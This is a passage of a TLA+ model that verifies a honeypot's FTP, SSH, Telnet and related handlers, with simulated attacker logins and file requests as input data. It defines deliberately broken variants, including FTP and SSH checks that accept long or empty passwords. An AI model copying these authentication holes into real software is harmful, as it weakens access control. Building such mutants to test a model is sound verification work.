---- MODULE Spec2Model ----
(***************************************************************************)
(* Verification model of the HP_TI honeypot platform.                      *)
(*                                                                         *)
(* Bytes and characters are integers (byte values / code points); a byte   *)
(* string or a str is a sequence of them.  The model alphabet is ASCII     *)
(* plus the byte 0xFF, which occurs in no valid UTF-8 sequence.            *)
(* Timestamps (datetime.utcnow()) are not modelled: a record keeps the     *)
(* order of its entries, not their clock values.                           *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    ftp_pc,        \* position of FTPHoneypot._handle_connection: "listening" | "loop" | "closed"
    ftp_session,   \* self.sessions[session_id]
    ftp_wire,      \* bytes the peer has sent that recv() has not returned yet
    ftp_buf,       \* `buffer` of the _receive_line call in progress
    ftp_out,       \* responses handed to _send, in order
    ftp_line,      \* history: what the last _receive_line call returned, and why
    ftp_sent,      \* history: the payloads of the lines the peer has sent
    ftp_stream,    \* history: every byte the peer has sent
    ftp_peer,      \* "open" | "closed" (the peer has shut down its sending side)
    ftp_events,    \* history: the session_ended events the FTP session logger emitted
    ssh_pc,            \* position of SSHHoneypot._handle_connection:
                       \* "listening" | "auth" | "closed"
    ssh_session,       \* self.sessions[session_id]
    ssh_events,        \* history: the session_ended events the SSH session logger emitted
    ssh_auth_attempts, \* SSHServerInterface.auth_attempts
    ssh_results,       \* history: what each check_auth_* call returned to the transport
    ssh_calls,         \* history: the check_auth_* calls the transport made
    tel_pc,        \* position of TelnetHoneypot._handle_connection:
                   \* "listening" | "username" | "password" | "shell" | "closed"
    tel_session,   \* self.sessions[session_id]
    tel_attempts,  \* `attempts` of _handle_authentication
    tel_username,  \* `username` of _handle_authentication
    tel_wire,      \* bytes the peer has sent that recv() has not returned yet
    tel_buf,       \* `buffer` of the _receive_line call in progress
    tel_out,       \* texts handed to _send, in order
    tel_line,      \* history: what the last _receive_line call returned, and why
    tel_reads,     \* history: the number of lines _receive_line has returned
    tel_sent,      \* history: the payloads of the lines the peer has sent
    tel_peer,      \* "open" | "closed"
    tel_events,    \* history: the session_ended events the Telnet session logger emitted
    http_sessions, \* self.sessions of HTTPHoneypot, in the order the requests arrived
    http_detected, \* history: what _detect_attack_type returned for each request
    http_responses, \* history: the Response returned for each request
    http_logins, \* history: the http_login_attempt events logged
    pd_pc,         \* what the PatternDetector's caller does: "idle" | "open" (a session is
                   \* being recorded) | "analyzed" | "batch" (a batch is being put
                   \* together) | "detected"
    pd_plan,       \* how the peer of the recorded session picks its credentials
    pd_session,    \* session_data: the record of the session
    pd_result,     \* what analyze_session(session_data) returned or raised
    pd_batch,      \* sessions: the batch handed to detect_distributed_attack
    pd_found,      \* what detect_distributed_attack(sessions) returned or raised
    sm_status,     \* ServiceManager.status: for each service its running flag and error
    sm_task,       \* the state of status.task: "none" | "pending" (created, not run yet)
                   \* | "serving" | "failed" (done, holding the exception)
    sm_returns,    \* history: what _start_service returned for each service
    sm_events,     \* history: the event_type / service pairs the manager has logged
    sm_loop,       \* the event loop: "free", or the service whose start() never yields
    sm_run,        \* position of ServiceManager.run(): "starting" | "waiting" | "stopping" | "done"
    sm_shutdown,   \* self.shutdown_requested
    sm_signal,     \* SIGTERM / SIGINT: "none" | "pending" (delivered, handler not run yet) | "handled"
    sm_monitor,    \* the task of monitor_services: "none" | "running" | "stopped"
    sm_restart,    \* the service restart_service is busy with between its stop and its start ("none")
    sm_restarts,   \* history: the number of restart_service calls completed
    sm_stop_calls, \* history: the services stop_all has called stop() on
    ar_now,        \* datetime.utcnow(), in seconds
    ar_last_fired, \* AlertRule.last_fired: <<>> for None, <<t>> for the time t
    ar_calls,      \* history: the should_fire calls, with their time and result
    ar_alerts,     \* history: the times of the alerts create_alert has made
    en_now,            \* time.time(), in seconds
    en_window_start,   \* BaseEnricher._window_start
    en_request_count,  \* BaseEnricher._request_count
    en_cache,          \* the identifiers the cache manager holds data for
    en_calls,           \* history: the enrich calls, with their time and outcome
    sh_pc,   \* position of SSHHoneypot._handle_channel: "waiting" | "shell" | "closed"
    sh_session,   \* self.sessions[session_id] of the shell's connection
    sh_buffer,   \* `buffer` of _handle_channel
    sh_wire,   \* bytes the peer has written that channel.recv() has not returned yet
    sh_out,   \* texts handed to channel.send, in order
    sh_replies,   \* history: the commands _get_fake_response was called with, and its results
    sh_stream,   \* history: every byte the peer has written
    sh_chunks,   \* history: the number of pieces the peer has written
    sh_peer,   \* "open" | "closed" (channel.closed)
    sh_spin,   \* the parity of the number of passes of the loop
    sh_events,   \* history: the session_ended events logged
    lis_pc,   \* position of start(): "idle" | "socket" | "bind" | "loop" | "accept" | "spawn" | "done" | "failed"
    lis_running,   \* self.running
    lis_socket,   \* self.server_socket: "none" | "open" | "listening" | "closed"
    lis_stop,   \* position of stop(): "idle" | "flag" (self.running = False done) | "done"
    lis_backlog,   \* connections completed by the kernel, not yet accepted
    lis_client,   \* the connection accept() has just returned (0: none)
    lis_sessions,   \* self.sessions: session id -> record
    lis_spawned,   \* history: the connections a handler thread was started for, in order
    lis_late,   \* history: the connections that arrived after stop() had returned
    lis_entered,   \* history: accept() calls entered after stop() had cleared self.running
    conn_pc,   \* per connection: "away" | "queued" | "refused" | "accepted" | "loop" | "closed"
    conn_sent,   \* history, per connection: the lines its peer has sent
    conn_read,   \* per connection: the lines its handler has read
    bp_buffer,   \* BatchProcessor.buffer
    bp_last_flush,   \* BatchProcessor.last_flush_time
    bp_lock,   \* the task holding BatchProcessor._lock, or "free"
    bp_pc,   \* where each task of the event loop stands
    bp_batches,   \* the batches process_callback has received, in order
    bp_added,   \* how many entries add() has been called with
    bp_clock,   \* time.time()
    pdc_maps,   \* PatternDetector.ip_activity, credential_usage, command_sequences
    pdc_pc,   \* where each analyze_session call stands
    pdc_session,   \* the session_data of each call
    pdc_patterns,   \* the list `patterns` of each call
    pdc_result,   \* what each call returned
    pdc_overlapped,   \* history: the call took a step while another call was under way
    am_now,   \* datetime.utcnow()
    am_last_fired,   \* last_fired of each rule of the AlertManager
    am_evals,   \* history: the evaluate_rules calls, with the alerts each returned
    enc_now,   \* time.time()
    enc_window_start,   \* BaseEnricher._window_start
    enc_request_count,   \* BaseEnricher._request_count
    enc_pc,   \* where each worker thread stands in enrich()
    enc_loaded,   \* the _request_count a thread has read for its `+= 1`
    enc_calls,   \* how many enrich() calls each thread has made
    enc_admitted   \* history: the _enrich_impl invocations made in each window

ftpVars == <<ftp_pc, ftp_session, ftp_wire, ftp_buf, ftp_out, ftp_line, ftp_sent, ftp_stream, ftp_peer,
             ftp_events>>

sshVars == <<ssh_pc, ssh_auth_attempts, ssh_results, ssh_calls, ssh_session, ssh_events>>

telVars == <<tel_pc, tel_session, tel_attempts, tel_username, tel_wire, tel_buf, tel_out,
             tel_line, tel_reads, tel_sent, tel_peer, tel_events>>

httpVars == <<http_sessions, http_detected, http_responses, http_logins>>

pdVars == <<pd_pc, pd_plan, pd_session, pd_result, pd_batch, pd_found>>

smVars == <<sm_status, sm_task, sm_returns, sm_events, sm_loop, sm_run, sm_shutdown, sm_signal,
            sm_monitor, sm_restart, sm_restarts, sm_stop_calls>>

arVars == <<ar_now, ar_last_fired, ar_calls, ar_alerts>>

enVars == <<en_now, en_window_start, en_request_count, en_cache, en_calls>>

shVars == <<sh_pc, sh_session, sh_buffer, sh_wire, sh_out, sh_replies, sh_stream, sh_chunks, sh_peer, sh_spin, sh_events>>

lisVars == <<lis_pc, lis_running, lis_socket, lis_stop, lis_backlog, lis_client, lis_sessions, lis_spawned, lis_late, lis_entered, conn_pc, conn_sent, conn_read>>

bpVars == <<bp_buffer, bp_last_flush, bp_lock, bp_pc, bp_batches, bp_added, bp_clock>>

pdcVars == <<pdc_maps, pdc_pc, pdc_session, pdc_patterns, pdc_result, pdc_overlapped>>

amVars == <<am_now, am_last_fired, am_evals>>

encVars == <<enc_now, enc_window_start, enc_request_count, enc_pc, enc_loaded, enc_calls, enc_admitted>>

\* the components beside the FTP session, the SSH authentication and Telnet
restVars == <<httpVars, pdVars, smVars, arVars, enVars, shVars, lisVars, bpVars, pdcVars, amVars, encVars>>

\* what an action of one component leaves alone
exceptHttp == <<ftpVars, sshVars, telVars, pdVars, smVars, arVars, enVars, shVars, lisVars, bpVars, pdcVars, amVars, encVars>>

exceptPd == <<ftpVars, sshVars, telVars, httpVars, smVars, arVars, enVars, shVars, lisVars, bpVars, pdcVars, amVars, encVars>>

exceptSm == <<ftpVars, sshVars, telVars, httpVars, pdVars, arVars, enVars, shVars, lisVars, bpVars, pdcVars, amVars, encVars>>

exceptAr == <<ftpVars, sshVars, telVars, httpVars, pdVars, smVars, enVars, shVars, lisVars, bpVars, pdcVars, amVars, encVars>>

exceptEn == <<ftpVars, sshVars, telVars, httpVars, pdVars, smVars, arVars, shVars, lisVars, bpVars, pdcVars, amVars, encVars>>

exceptSh == <<ftpVars, sshVars, telVars, httpVars, pdVars, smVars, arVars, enVars, lisVars, bpVars, pdcVars, amVars, encVars>>

exceptLis == <<ftpVars, sshVars, telVars, httpVars, pdVars, smVars, arVars, enVars, shVars, bpVars, pdcVars, amVars, encVars>>

exceptBp == <<ftpVars, sshVars, telVars, httpVars, pdVars, smVars, arVars, enVars, shVars, lisVars, pdcVars, amVars, encVars>>

exceptPdc == <<ftpVars, sshVars, telVars, httpVars, pdVars, smVars, arVars, enVars, shVars, lisVars, bpVars, amVars, encVars>>

exceptAm == <<ftpVars, sshVars, telVars, httpVars, pdVars, smVars, arVars, enVars, shVars, lisVars, bpVars, pdcVars, encVars>>

exceptEnc == <<ftpVars, sshVars, telVars, httpVars, pdVars, smVars, arVars, enVars, shVars, lisVars, bpVars, pdcVars, amVars>>

vars == <<ftpVars, sshVars, telVars, restVars>>

----------------------------------------------------------------------------
(* Bounds of the explored environments *)

MaxLines == 4
MaxLongLines == 1
MaxLongSession == 3
MaxVerbLines == 2
MaxStream == 5
MaxChunk == 2
MaxAuthCalls == 3
MaxTelLines == 7
MaxFloodLines == 3
FloodLen == 1030
MaxRequests == 2
MaxAttempts == 52
MaxCommands == 4
MaxReconCommands == 12
MaxAnalyses == 2
MaxEvaluations == 4
MaxAmClock == 5
MaxEncThreads == 2
MaxEncCalls == 2
MaxEncWindows == 2
MaxBatch == 4
MaxBots == 12
MaxClock == 4
MaxCalls == 3
cooldown_seconds == 2
MaxTime == 100
MaxEnrich == 4
rate_limit == 2

\* the pieces the peer of the SSH shell writes
MaxShChunks == 3

\* the lines a peer writes before it falls silent
MaxSilentLines == 1
MaxConns == 2
MaxConnLines == 2
MaxRestarts == 1
MaxBpEntries == 3
MaxBpClock == 3
batch_size == 2
flush_interval == 2

----------------------------------------------------------------------------
(* Python values *)

\* Python's None where a str is expected; -1 is no code point
None == <<-1>>

\* bool(x) is False for None and for the empty str
Falsy(x) == x = None \/ x = <<>>

Min(S) == CHOOSE x \in S : \A y \in S : x <= y

\* str.isspace() for one character
IsSpace(c) == c \in {9, 10, 11, 12, 13, 28, 29, 30, 31, 32, 133, 160}

\* the index of the first / last character of s that is not whitespace (0: none)
FirstNonSpace(s) ==
    IF \A i \in 1..Len(s) : IsSpace(s[i]) THEN 0
    ELSE CHOOSE i \in 1..Len(s) : ~IsSpace(s[i]) /\ \A j \in 1..(i - 1) : IsSpace(s[j])

LastNonSpace(s) ==
    IF \A i \in 1..Len(s) : IsSpace(s[i]) THEN 0
    ELSE CHOOSE i \in 1..Len(s) : ~IsSpace(s[i]) /\ \A j \in (i + 1)..Len(s) : IsSpace(s[j])

\* str.strip()
Strip(s) ==
    IF FirstNonSpace(s) = 0 THEN <<>> ELSE SubSeq(s, FirstNonSpace(s), LastNonSpace(s))

\* s.split(None, 1) for an already stripped s: the first token and, if a
\* whitespace run follows it, everything after that run
Split1(s) ==
    IF s = <<>> THEN <<>>
    ELSE IF \A i \in 1..Len(s) : ~IsSpace(s[i]) THEN <<s>>
    ELSE LET w    == CHOOSE i \in 1..Len(s) : IsSpace(s[i]) /\ \A j \in 1..(i - 1) : ~IsSpace(s[j])
             rest == SubSeq(s, w + 1, Len(s))
         IN  <<SubSeq(s, 1, w - 1), SubSeq(rest, FirstNonSpace(rest), Len(rest))>>

\* an upper() that leaves the case alone
UpperChar_asIs(c) == c

UpperChar(c) == IF c >= 97 /\ c <= 122 THEN c - 32 ELSE c

\* str.upper()
Upper(s) == [i \in 1..Len(s) |-> UpperChar(s[i])]

\* bytes.decode('utf-8', errors='ignore') on the model alphabet: an ASCII
\* byte is its own code point, 0xFF is invalid and dropped
Decode(b) == SelectSeq(b, LAMBDA x : x < 128)

----------------------------------------------------------------------------
(* FTPHoneypot *)

RESPONSE_220 == "220 FTP Server ready\r\n"
RESPONSE_230 == "230 User logged in\r\n"
RESPONSE_331 == "331 Password required\r\n"
RESPONSE_530 == "530 Login incorrect\r\n"
RESPONSE_200 == "200 Command okay\r\n"
RESPONSE_215 == "215 UNIX Type: L8\r\n"
RESPONSE_221 == "221 Goodbye\r\n"
RESPONSE_250 == "250 Requested file action okay\r\n"
RESPONSE_257 == "257 \"/\" is current directory\r\n"
RESPONSE_500 == "500 Command not understood\r\n"
RESPONSE_502 == "502 Command not implemented\r\n"
RESPONSE_550 == "550 File not found\r\n"

CRLF == <<13, 10>>

V_USER == <<85, 83, 69, 82>>
V_PASS == <<80, 65, 83, 83>>
V_SYST == <<83, 89, 83, 84>>
V_PWD  == <<80, 87, 68>>
V_CWD  == <<67, 87, 68>>
V_LIST == <<76, 73, 83, 84>>
V_RETR == <<82, 69, 84, 82>>
V_STOR == <<83, 84, 79, 82>>
V_QUIT == <<81, 85, 73, 84>>
V_TYPE == <<84, 89, 80, 69>>
V_PORT == <<80, 79, 82, 84>>
V_PASV == <<80, 65, 83, 86>>

\* "anonymous"
S_anonymous == <<97, 110, 111, 110, 121, 109, 111, 117, 115>>

\* the limit of `if len(buffer) > 1024`
FtpBufLimit == 1024

\* buffer.endswith(b'\r\n')
EndsWithCRLF(buffer) ==
    /\ Len(buffer) >= 2
    /\ buffer[Len(buffer) - 1] = 13
    /\ buffer[Len(buffer)] = 10

\* a return that strips every CR and LF rather than the closing CRLF
FtpLineValue_stripsAll(buffer) ==
    Decode(SelectSeq(buffer, LAMBDA x : x \notin {13, 10}))

\* the str _receive_line returns for the buffer it stops at
FtpLineValue(buffer) ==
    IF EndsWithCRLF(buffer)
    THEN Decode(SubSeq(buffer, 1, Len(buffer) - 2))
    ELSE Decode(buffer)

\* The recv(1) loop of _receive_line, run over the bytes available on the
\* wire starting from `buffer`: it returns at the first byte after which the
\* buffer ends with CRLF or exceeds the limit, and otherwise has taken every
\* available byte into the buffer and is blocked in recv.
FtpReceiveLoop(buffer, wire) ==
    LET all == buffer \o wire
        stops == {k \in (Len(buffer) + 1)..Len(all) :
                     \/ (k >= 2 /\ all[k - 1] = 13 /\ all[k] = 10)
                     \/ k > FtpBufLimit}
    IN  IF stops = {}
        THEN [kind |-> "blocked", buffer |-> all, rest |-> <<>>, value |-> None]
        ELSE LET k == Min(stops)
                 b == SubSeq(all, 1, k)
             IN  [kind   |-> "line",
                  buffer |-> b,
                  rest   |-> SubSeq(all, k + 1, Len(all)),
                  value  |-> FtpLineValue(b)]

\* dict.get(key, default)
DictGet(d, key, default) == IF key \in DOMAIN d THEN d[key] ELSE default

\* a PASS branch that lets a well-known password in
FtpResponse_acceptsPassword(cmd, arg, session) ==
    IF cmd = V_USER THEN RESPONSE_331
    ELSE IF cmd = V_PASS
    THEN (IF Len(arg) > 8 THEN RESPONSE_230 ELSE RESPONSE_530)
    ELSE IF cmd = V_QUIT THEN RESPONSE_221
    ELSE RESPONSE_500

\* the response _handle_ftp_command returns
FtpResponse(cmd, arg, session) ==
    IF cmd = V_USER THEN RESPONSE_331
    ELSE IF cmd = V_PASS THEN RESPONSE_530
    ELSE IF cmd = V_SYST THEN RESPONSE_215
    ELSE IF cmd = V_PWD THEN RESPONSE_257
    ELSE IF cmd = V_CWD THEN RESPONSE_250
    ELSE IF cmd = V_LIST THEN RESPONSE_502
    ELSE IF cmd = V_RETR THEN RESPONSE_550
    ELSE IF cmd = V_STOR THEN RESPONSE_550
    ELSE IF cmd = V_QUIT THEN RESPONSE_221
    ELSE IF cmd = V_TYPE THEN RESPONSE_200
    ELSE IF cmd \in {V_PORT, V_PASV} THEN RESPONSE_502
    ELSE RESPONSE_500

\* a PASS branch that logs every attempt as "anonymous"
FtpSessionAfter_forgetsUser(cmd, arg, session) ==
    IF cmd = V_USER THEN [session EXCEPT !.username = arg]
    ELSE IF cmd = V_PASS
    THEN [session EXCEPT !.auth_attempts =
             Append(@, [username |-> S_anonymous, password |-> arg, success |-> FALSE])]
    ELSE session

\* the session record after _handle_ftp_command
FtpSessionAfter(cmd, arg, session) ==
    IF cmd = V_USER THEN [session EXCEPT !.username = arg]
    ELSE IF cmd = V_PASS
    THEN LET username == DictGet(session, "username", S_anonymous)
         IN  [session EXCEPT !.auth_attempts =
                 Append(@, [username |-> username, password |-> arg, success |-> FALSE])]
    ELSE session

\* the record stored at connection accept
FtpNewSession ==
    [commands      |-> <<>>,
     auth_attempts |-> <<>>,
     authenticated |-> FALSE,
     username      |-> None,
     end_time      |-> None]

NoSession == [commands |-> <<>>, auth_attempts |-> <<>>, authenticated |-> FALSE,
              username |-> None, end_time |-> None, absent |-> TRUE]

NoLine == [kind |-> "none", value |-> None]

\* a finally block that also empties the command list
FtpFinish_clears(session) == [session EXCEPT !.end_time = <<1>>, !.commands = <<>>]

\* the finally block of _handle_connection: close the socket, stamp end_time
FtpFinish(session) == [session EXCEPT !.end_time = <<1>>]

\* the record the finally block of a _handle_connection hands to its logger
SessionEnded(session) == [event_type |-> "session_ended", session_data |-> session]

\* the finally block logs the session as it is when the handler leaves
FtpLogEnd ==
    ftp_events' = IF ftp_pc # "closed" /\ ftp_pc' = "closed"
                  THEN Append(ftp_events, SessionEnded(ftp_session'))
                  ELSE ftp_events

\* `if cmd == "QUIT": break`
FtpLeavesLoop_never(cmd) == FALSE

FtpLeavesLoop(cmd) == cmd = V_QUIT

FtpInit ==
    /\ ftp_pc = "listening"
    /\ ftp_session = NoSession
    /\ ftp_wire = <<>>
    /\ ftp_buf = <<>>
    /\ ftp_out = <<>>
    /\ ftp_line = NoLine
    /\ ftp_sent = <<>>
    /\ ftp_stream = <<>>
    /\ ftp_peer = "open"
    /\ ftp_events = <<>>

\* start() accepts a connection; _handle_connection stores the session and
\* sends the banner
FtpAccept ==
    /\ ftp_pc = "listening"
    /\ ftp_pc' = "loop"
    /\ ftp_session' = FtpNewSession
    /\ ftp_out' = Append(ftp_out, RESPONSE_220)
    /\ UNCHANGED <<ftp_wire, ftp_buf, ftp_line, ftp_sent, ftp_stream, ftp_peer>>
    /\ UNCHANGED <<sshVars, telVars, restVars>>
    /\ FtpLogEnd

\* _receive_line returned None (recv timed out, returned b'' or raised):
\* `if not command: break`, then the finally block
FtpNoLine(cause) ==
    /\ ftp_line' = [kind |-> cause, value |-> None]
    /\ ftp_pc' = "closed"
    /\ ftp_session' = FtpFinish(ftp_session)
    /\ ftp_buf' = <<>>
    /\ UNCHANGED <<ftp_wire, ftp_out, ftp_sent, ftp_stream, ftp_peer>>
    /\ UNCHANGED <<sshVars, telVars, restVars>>
    /\ FtpLogEnd

\* one pass of the `while True` of _handle_commands over the bytes available
FtpCommandStep ==
    /\ ftp_pc = "loop"
    /\ ftp_wire # <<>>
    /\ LET r == FtpReceiveLoop(ftp_buf, ftp_wire)
       IN  IF r.kind = "blocked"
           THEN /\ ftp_buf' = r.buffer
                /\ ftp_wire' = <<>>
                /\ UNCHANGED <<ftp_pc, ftp_session, ftp_out, ftp_line, ftp_sent, ftp_stream, ftp_peer>>
           ELSE LET command == r.value
                    parts   == Split1(Strip(command))
                    cmd     == Upper(parts[1])
                    arg     == IF Len(parts) > 1 THEN parts[2] ELSE <<>>
                    stored  == [ftp_session EXCEPT !.commands =
                                   Append(@, [command |-> cmd, argument |-> arg])]
                    after   == FtpSessionAfter(cmd, arg, stored)
                IN  /\ ftp_line' = [kind |-> "line", value |-> command]
                    /\ ftp_wire' = r.rest
                    /\ ftp_buf' = <<>>
                    /\ UNCHANGED <<ftp_sent, ftp_stream, ftp_peer>>
                    /\ IF Falsy(command)
                       THEN /\ ftp_pc' = "closed"
                            /\ ftp_session' = FtpFinish(ftp_session)
                            /\ UNCHANGED ftp_out
                       ELSE IF parts = <<>>
                       THEN UNCHANGED <<ftp_pc, ftp_session, ftp_out>>
                       ELSE /\ ftp_out' = Append(ftp_out, FtpResponse(cmd, arg, stored))
                            /\ IF FtpLeavesLoop(cmd)
                               THEN /\ ftp_pc' = "closed"
                                    /\ ftp_session' = FtpFinish(after)
                               ELSE /\ ftp_pc' = "loop"
                                    /\ ftp_session' = after
    /\ UNCHANGED <<sshVars, telVars, restVars>>
    /\ FtpLogEnd

(* The same pass in two steps, one up to the append to the command list and
   one from the dispatch on: the handler can be observed between the two. *)

\* self.sessions[session_id]["commands"].append({...})
FtpStored_knownOnly(session, cmd, arg) ==
    IF cmd \in {V_USER, V_PASS, V_SYST, V_PWD, V_CWD, V_LIST, V_RETR, V_STOR,
                V_QUIT, V_TYPE, V_PORT, V_PASV}
    THEN [session EXCEPT !.commands = Append(@, [command |-> cmd, argument |-> arg])]
    ELSE session

FtpStored(session, cmd, arg) ==
    [session EXCEPT !.commands = Append(@, [command |-> cmd, argument |-> arg])]

\* receive a line, parse it, log it and store it in the session (r and
\* parts are bound to their values once)
FtpReadCommand ==
    /\ ftp_pc = "loop"
    /\ ftp_wire # <<>>
    /\ \E r \in {FtpReceiveLoop(ftp_buf, ftp_wire)} :
          IF r.kind = "blocked"
          THEN /\ ftp_buf' = r.buffer
               /\ ftp_wire' = <<>>
               /\ UNCHANGED <<ftp_pc, ftp_session, ftp_out, ftp_line, ftp_sent, ftp_stream, ftp_peer>>
          ELSE \E parts \in {Split1(Strip(r.value))} :
                  LET command == r.value
                      cmd     == Upper(parts[1])
                      arg     == IF Len(parts) > 1 THEN parts[2] ELSE <<>>
                  IN  /\ ftp_line' = [kind |-> "line", value |-> command]
                      /\ ftp_wire' = r.rest
                      /\ ftp_buf' = <<>>
                      /\ UNCHANGED <<ftp_out, ftp_sent, ftp_stream, ftp_peer>>
                      /\ IF Falsy(command)
                         THEN /\ ftp_pc' = "closed"
                              /\ ftp_session' = FtpFinish(ftp_session)
                         ELSE IF parts = <<>>
                         THEN UNCHANGED <<ftp_pc, ftp_session>>
                         ELSE /\ ftp_pc' = "dispatch"
                              /\ ftp_session' = FtpStored(ftp_session, cmd, arg)
    /\ UNCHANGED <<sshVars, telVars, restVars>>
    /\ FtpLogEnd

\* handle the command, send the response, leave the loop on QUIT
FtpDispatchCommand ==
    /\ ftp_pc = "dispatch"
    /\ LET parts == Split1(Strip(ftp_line.value))
           cmd   == Upper(parts[1])
           arg   == IF Len(parts) > 1 THEN parts[2] ELSE <<>>
           after == FtpSessionAfter(cmd, arg, ftp_session)
       IN  /\ ftp_out' = Append(ftp_out, FtpResponse(cmd, arg, ftp_session))
           /\ IF FtpLeavesLoop(cmd)
              THEN /\ ftp_pc' = "closed"
                   /\ ftp_session' = FtpFinish(after)
              ELSE /\ ftp_pc' = "loop"
                   /\ ftp_session' = after
    /\ UNCHANGED <<ftp_wire, ftp_buf, ftp_line, ftp_sent, ftp_stream, ftp_peer>>
    /\ UNCHANGED <<sshVars, telVars, restVars>>
    /\ FtpLogEnd

\* recv blocks for the whole timeout: no byte is available
FtpTimeout ==
    /\ ftp_pc = "loop"
    /\ ftp_wire = <<>>
    /\ ftp_peer = "open"
    /\ FtpNoLine("timeout")

\* recv returns b'': the peer has closed and every byte has been read
FtpEndOfStream ==
    /\ ftp_pc = "loop"
    /\ ftp_wire = <<>>
    /\ ftp_peer = "closed"
    /\ FtpNoLine("eof")

\* recv raises (connection reset)
FtpReceiveError ==
    /\ ftp_pc = "loop"
    /\ FtpNoLine("error")

(* the peer *)

\* "PASS " followed by n times "a"
LongPass(n) == [i \in 1..(5 + n) |-> IF i <= 5 THEN (V_PASS \o <<32>>)[i] ELSE 97]

FtpPayloads ==
    { <<85, 83, 69, 82, 32, 97, 100, 109, 105, 110>>,                                  \* "USER admin"
      <<80, 65, 83, 83, 32, 112, 97, 115, 115, 119, 111, 114, 100, 49, 50, 51>>,       \* "PASS password123"
      <<82, 69, 84, 82, 32, 115, 101, 99, 114, 101, 116, 46, 116, 120, 116>>,          \* "RETR secret.txt"
      <<81, 85, 73, 84>>,                                                              \* "QUIT"
      <<>> }                                                                           \* ""

\* every verb of the dispatch chain, in several spellings
FtpVerbPayloads ==
    { <<85, 83, 69, 82, 32, 97, 100, 109, 105, 110>>,                        \* "USER admin"
      <<117, 115, 101, 114>>,                                                \* "user"
      <<80, 65, 83, 83, 32, 112, 97, 115, 115, 119, 111, 114, 100, 49, 50, 51>>, \* "PASS password123"
      <<112, 97, 115, 115>>,                                                 \* "pass"
      <<80, 97, 115, 115, 32, 32, 120, 32>>,                                 \* "Pass  x "
      <<83, 89, 83, 84>>,                                                    \* "SYST"
      <<115, 121, 115, 116, 32, 110, 111, 119>>,                             \* "syst now"
      <<80, 87, 68>>,                                                        \* "PWD"
      <<84, 89, 80, 69, 32, 73>>,                                            \* "TYPE I"
      <<67, 87, 68, 32, 47, 101, 116, 99>>,                                  \* "CWD /etc"
      <<82, 69, 84, 82, 32, 115, 101, 99, 114, 101, 116, 46, 116, 120, 116>>, \* "RETR secret.txt"
      <<83, 84, 79, 82, 32, 117, 112, 46, 98, 105, 110>>,                    \* "STOR up.bin"
      <<76, 73, 83, 84>>,                                                    \* "LIST"
      <<80, 79, 82, 84, 32, 49, 44, 50>>,                                    \* "PORT 1,2"
      <<80, 65, 83, 86>>,                                                    \* "PASV"
      <<81, 85, 73, 84>>,                                                    \* "QUIT"
      <<113, 117, 105, 116>>,                                                \* "quit"
      <<78, 79, 79, 80>>,                                                    \* "NOOP"
      <<85, 83, 69, 82, 32, 98, 255, 98>>,                                   \* "USER b\xffb"
      <<32>>,                                                                \* " "
      <<>> }                                                                  \* ""

\* lines around the buffer limit: 1023, 1024 and 1030 bytes before the CRLF
FtpLongPayloads == { LongPass(FtpBufLimit - 6), LongPass(FtpBufLimit - 5), LongPass(FtpBufLimit + 1) }

IsLong(p) == Len(p) > 64

\* the peer writes one line (payload and CRLF) in one segment
FtpPeerSend(payloads, maxLines) ==
    /\ ftp_pc = "loop"
    /\ ftp_peer = "open"
    /\ Len(ftp_sent) < maxLines
    /\ \E p \in payloads :
          /\ ftp_wire' = ftp_wire \o p \o CRLF
          /\ ftp_sent' = Append(ftp_sent, p)
          /\ ftp_stream' = ftp_stream \o p \o CRLF
    /\ UNCHANGED <<ftp_pc, ftp_session, ftp_buf, ftp_out, ftp_line, ftp_peer>>
    /\ UNCHANGED <<sshVars, telVars, restVars>>
    /\ UNCHANGED ftp_events

\* the number of long lines the peer has sent
LongSent == Cardinality({i \in 1..Len(ftp_sent) : IsLong(ftp_sent[i])})

\* a session with a long line in it has at most MaxLongSession lines
FtpPeerSendLine == FtpPeerSend(FtpPayloads, IF LongSent > 0 THEN MaxLongSession ELSE MaxLines)

FtpPeerSendVerb == FtpPeerSend(FtpVerbPayloads, MaxVerbLines)

FtpPeerSendLong ==
    /\ LongSent < MaxLongLines
    /\ Len(ftp_wire) <= 1
    /\ FtpPeerSend(FtpLongPayloads, MaxLongSession)

\* the bytes of the byte-stream peer: "a", CR, LF and the invalid byte 0xFF
StreamBytes == {97, 13, 10, 255}

\* the peer writes a segment of arbitrary bytes
FtpPeerSendBytes ==
    /\ ftp_pc = "loop"
    /\ ftp_peer = "open"
    /\ \E n \in 1..MaxChunk : \E chunk \in [1..n -> StreamBytes] :
          /\ Len(ftp_stream) + n <= MaxStream
          /\ ftp_wire' = ftp_wire \o chunk
          /\ ftp_stream' = ftp_stream \o chunk
    /\ UNCHANGED <<ftp_pc, ftp_session, ftp_buf, ftp_out, ftp_line, ftp_sent, ftp_peer>>
    /\ UNCHANGED <<sshVars, telVars, restVars>>
    /\ UNCHANGED ftp_events

\* "USER admin\r\n"
TypedLine == <<85, 83, 69, 82, 32, 97, 100, 109, 105, 110, 13, 10>>

\* the peer types "USER admin\r\n", one byte per segment
FtpPeerType ==
    /\ ftp_pc = "loop"
    /\ ftp_peer = "open"
    /\ Len(ftp_stream) < Len(TypedLine)
    /\ ftp_stream = SubSeq(TypedLine, 1, Len(ftp_stream))
    /\ ftp_wire' = Append(ftp_wire, TypedLine[Len(ftp_stream) + 1])
    /\ ftp_stream' = Append(ftp_stream, TypedLine[Len(ftp_stream) + 1])
    /\ UNCHANGED <<ftp_pc, ftp_session, ftp_buf, ftp_out, ftp_line, ftp_sent, ftp_peer>>
    /\ UNCHANGED <<sshVars, telVars, restVars>>
    /\ UNCHANGED ftp_events

FtpPeerClose ==
    /\ ftp_pc = "loop"
    /\ ftp_peer = "open"
    /\ ftp_peer' = "closed"
    /\ UNCHANGED <<ftp_pc, ftp_session, ftp_wire, ftp_buf, ftp_out, ftp_line, ftp_sent, ftp_stream>>
    /\ UNCHANGED <<sshVars, telVars, restVars>>
    /\ UNCHANGED ftp_events

----------------------------------------------------------------------------
(* SSHServerInterface *)

\* bytes.hex(): two lower-case hexadecimal digits per byte
HexDigit(n) == IF n < 10 THEN 48 + n ELSE 87 + n

Hex(bytes) ==
    [i \in 1..(2 * Len(bytes)) |->
        IF i % 2 = 1 THEN HexDigit(bytes[(i + 1) \div 2] \div 16)
                     ELSE HexDigit(bytes[i \div 2] % 16)]

\* a password check that lets the empty password in
SshCheckAuthPasswordResult_acceptsEmpty(username, password) ==
    IF password = "" THEN "AUTH_SUCCESSFUL" ELSE "AUTH_FAILED"

\* what check_auth_password returns
